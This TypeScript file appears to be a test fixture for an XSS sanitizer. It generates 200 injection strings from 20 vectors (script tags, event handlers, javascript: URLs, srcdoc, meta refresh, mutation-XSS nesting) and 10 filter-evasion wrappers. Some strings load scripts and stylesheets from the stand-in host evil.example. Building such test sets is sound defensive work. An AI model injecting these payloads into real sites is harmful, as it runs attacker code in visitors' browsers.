/*
 * Texts that try to run code by every means a page offers: 20 vectors × 10 ways to break out of the surrounding markup.
 */

/** Code that leaves a trace if it runs. */
export const RUN = "top.ran=(top.ran||0)+1;alert('ran')";
export const EVIL = 'https://evil.example';

const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/s.js></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${EVIL}/p.png onload="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="${EVIL}/"><link rel=stylesheet href=${EVIL}/c.css>`,
  `<style>@import url(${EVIL}/i.css);*{background:url(${EVIL}/b.png)}</style>`,
  `{@html '<img src=x onerror="${RUN}">'}{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
] as const;

const WAYS_OUT: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</script></style></title></textarea>${vector}`,
  (vector) => `--><![CDATA[>${vector}]]>`,
  (vector) => vector.replaceAll('<', '\u0000<').replace('=', '\u000b='),
  (vector) => vector.replace(/[a-z]+/g, (word) => word[0]!.toUpperCase() + word.slice(1)),
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&#x3e;'),
  (vector) => `\u202e\u2066${vector}\u200b\ufeff`,
  (vector) => `[${vector}](javascript:${RUN}) ![p](${EVIL}/p.png) \`${vector}\` <${EVIL}>`,
];

export const SCRIPTS: readonly string[] = WAYS_OUT.flatMap((way) => VECTORS.map(way));

/** Places of a site where each text appears. */
export const PLACES = [
  ...['label', 'icon', 'tag', 'description', 'banner', 'color', 'page path', 'link'],
  ...['specification', 'frontmatter', 'file name', 'site setting'],
] as const;
